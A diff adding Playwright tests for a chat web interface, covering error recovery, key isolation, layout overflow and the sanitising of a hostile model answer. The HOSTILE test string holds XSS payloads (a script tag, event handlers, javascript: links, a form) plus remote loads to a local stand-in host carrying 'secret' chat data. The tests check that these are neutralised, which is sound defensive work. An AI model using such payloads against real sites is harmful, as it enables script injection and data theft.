+    expect(option(page, t(language, "action.retry"))).to_be_visible()
+    expect(page.locator(".toast-body.error")).to_have_count(0)
+    stage.server.script = play.answer("Fine", ".")
+    send(page, "Next")
+    expect(answers(page).last).to_have_text("Fine.")
+    told = [user("Question"), assistant(kept)] if kept else []
+    assert stage.last_messages == [*told, user("Next")]
+    content = page.content()
+    assert OWNER_KEY not in content
+    assert OWNER_KEY[-6:] not in content
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_a_refused_parameter_is_left_out_and_that_is_told(
+    lasting_pages: dict[Language, Page], hasty_stages: Stage, language: Language
+) -> None:
+    page, stage = lasting_pages[language], hasty_stages
+    no_options = play.error(400, "Unsupported parameter: 'stream_options' is not supported.", "unsupported_parameter")
+    stage.plays(play.in_turn(no_options, play.answer("Fine", ".")))
+    begin_anew(page)
+    send(page, "Question")
+    expect(answers(page)).to_have_text("Fine.")
+    told = note(page, t(language, "note.adjusted.title"))
+    told.locator(".title").click()
+    expect(told).to_contain_text("stream_options")
+    first, second = stage.bodies
+    assert first.pop("stream_options") == {"include_usage": True}
+    assert second == first
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_a_refused_connection_is_told_and_the_owners_takes_over(
+    lasting_pages: dict[Language, Page], hasty_stages: Stage, language: Language
+) -> None:
+    page, stage = lasting_pages[language], hasty_stages
+    stage.plays(play.answer("Fine", "."))
+    begin_anew(page)
+    with ScriptedServer() as gone:
+        connect(page, VISITOR_KEY, gone.base_url)
+        expect(page.locator("#top-connection")).to_contain_text(str(gone.port))
+    send(page, "Question")
+    expect(note(page, t(language, "error.unreachable.title"))).to_be_visible()
+    assert stage.bodies == []
+    # A server that is not there is not taken into use.
+    connect_button(page).click()
+    expect(toast(page).last).to_contain_text(t(language, "error.unreachable.title"))
+    page.locator("#forget").click()
+    expect(page.locator("#top-connection")).to_contain_text(str(stage.server.port))
+    send(page, "Next")
+    expect(answers(page)).to_have_text("Fine.")
+    assert stage.last_messages == [user("Next")]
+
+
+# --- keys, hostile answers, look --------------------------------------------------------------------------------------
+
+
+def test_a_typed_key_serves_its_visitor_alone_and_is_forgotten(chat: Page, stage: Stage, browser: Browser) -> None:
+    with ScriptedServer(play.answer("From the other server.")) as other:
+        other.models = [{"id": "other-1", "object": "model"}]
+        connect(chat, VISITOR_KEY, other.base_url)
+        expect(chat.locator("#model input")).to_have_value("other-1")
+        expect(chat.locator("#top-connection")).to_contain_text(str(other.port))
+        send(chat, "Mine")
+        expect(answers(chat)).to_have_text("From the other server.")
+        assert {exchange.headers["authorization"] for exchange in other.all_requests} == {f"Bearer {VISITOR_KEY}"}
+        assert stage.bodies == []
+
+        stranger = browser.new_page(locale="en-US")
+        visit(stranger, stage)
+        send(stranger, "Not mine")
+        expect(answers(stranger)).to_have_text(ANSWER)
+        stranger.close()
+        assert [exchange.headers["authorization"] for exchange in stage.server.requests] == [f"Bearer {OWNER_KEY}"]
+        assert len(other.requests) == 1
+
+        inspect(chat)
+        shown = shown_code(chat, "inspect-curl") + shown_code(chat, "inspect-python")
+        stored = chat.evaluate("JSON.stringify([localStorage, sessionStorage, document.cookie, location.href])")
+        values = chat.evaluate("[...document.querySelectorAll('input, textarea')].map((field) => field.value).join()")
+        for key in (VISITOR_KEY, OWNER_KEY):
+            assert key not in chat.content() + shown + stored + values
+        chat.get_by_role("tab").first.click()
+
+        chat.locator("#own-connection > button").click()
+        chat.locator("#forget").click()
+        expect(chat.locator("#model input")).to_have_value("scripted-1")
+        expect(chat.locator("#forget")).to_be_hidden()
+        send(chat, "Again")
+        assert len(other.requests) == 1
+        assert stage.server.requests[-1].headers["authorization"] == f"Bearer {OWNER_KEY}"
+
+
+def test_a_key_that_no_key_can_be_is_refused_in_words(chat: Page, stage: Stage) -> None:
+    chat.locator("#own-connection > button").click()
+    chat.locator("#api-key input").fill("sk with blanks")
+    chat.locator("#connect").click()
+    expect(toast(chat)).to_contain_text(t("en", "error.bad_connection.key_characters"))
+    expect(chat.locator("#forget")).to_be_hidden()
+    send(chat, "Still the owner's")
+    assert stage.server.requests[0].headers["authorization"] == f"Bearer {OWNER_KEY}"
+
+
+HOSTILE = """Look:
+
+<script>window.pwned = "script"</script>
+<img src="{elsewhere}/image.png?chat=secret" onerror="window.pwned = 'onerror'">
+<svg onload="window.pwned = 'onload'"><image href="{elsewhere}/svg.png"/></svg>
+<video src="{elsewhere}/film.mp4" poster="{elsewhere}/poster.png" autoplay></video>
+<iframe src="{elsewhere}/frame.html"></iframe>
+<link rel="stylesheet" href="{elsewhere}/style.css"><style>body {{ background: url({elsewhere}/css.png) }}</style>
+<form action="{elsewhere}/form" method="post"><input name="chat" value="secret"><button id="bait">Win</button></form>
+
+![picture]({elsewhere}/markdown.png) ![reference][ref] [click](javascript:window.pwned='link')
+<a id="lure" href="javascript:window.pwned='anchor'">more</a>
+
+[ref]: {elsewhere}/reference.png
+
+The end.
+"""
+
+
+def test_a_hostile_answer_runs_nothing_and_reaches_nobody(chat: Page, stage: Stage) -> None:
+    dialogs: list[str] = []
+
+    def refuse(dialog: Dialog) -> None:
+        dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    chat.on("dialog", refuse)
+    with ScriptedServer() as elsewhere:
+        stage.plays(play.answer(HOSTILE.format(elsewhere=f"http://127.0.0.1:{elsewhere.port}")))
+        send(chat, "Surprise me")
+        expect(answers(chat).last).to_contain_text("The end.")
+        for link in answers(chat).locator("a, button").all():
+            address = link.get_attribute("href") or ""
+            assert not address.lower().startswith(("javascript:", "data:"))
+        begin_anew(chat)
+        send(chat, "Still here?")
+        # Submitting whatever form is left comes last: Playwright waits for the page that it would lead to.
+        chat.evaluate("document.querySelectorAll('#chatbot form').forEach((form) => form.submit())")
+        chat.evaluate("async () => (await fetch('/config')).status")
+        assert [exchange.path for exchange in elsewhere.all_requests] == []
+    assert chat.evaluate("window.pwned") is None
+    assert dialogs == []
+    assert chat.url.startswith(stage.address)
+
+
+LONG = (
+    "word " * 60
+    + "\n\n```\n"
+    + "x = "
+    + "1 + " * 80
+    + "1\n```\n\n"
+    + "unbroken" * 60
+    + "\n\n| a | b |\n|---|---|\n"
+    + ("| " + "cell" * 40 + " | " + "cell" * 40 + " |\n")
+)
+OVERFLOW = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
+
+
+@pytest.mark.parametrize(("width", "theme"), [(390, "dark"), (1440, "light"), (390, "light"), (1440, "dark")])
+def test_nothing_runs_over_the_edge_of_the_window(browser: Browser, stage: Stage, width: int, theme: str) -> None:
+    phone = width < 768
+    stage.plays(play.answer(LONG))
+    with browser.new_context(viewport={"width": width, "height": 844}, locale="en-US") as context:
+        errors: list[str] = []
+        context.on("weberror", lambda error: errors.append(str(error.error)))
+        page = context.new_page()
+        visit(page, stage, f"?__theme={theme}")
+        if phone:
+            page.wait_for_selector("html.sidebar-ready")
+        expect(page.locator(".sidebar.open")).to_have_count(0 if phone else 1)
+        attach(page, picture_file())
+        send(page, "long " * 50 + "unbroken" * 30)
+        expect(answers(page).last).to_contain_text("cell")
+        assert page.evaluate(OVERFLOW) <= 0
+        place = page.locator("#message-box").bounding_box()
+        assert place is not None
+        assert place["x"] >= 0
+        assert place["x"] + place["width"] <= width
+        assert place["y"] + place["height"] <= 844
+        for tab in (1, 2):
+            if phone and not page.get_by_role("tab").nth(tab).is_visible():
+                continue
+            page.get_by_role("tab").nth(tab).click()
+            assert page.evaluate(OVERFLOW) <= 0
+        edge = Image.open(io.BytesIO(page.screenshot())).convert("L").crop((width - 3, 600, width - 2, 601))
+        assert (edge.tobytes()[0] > 127) is (theme == "light")
+        assert errors == []
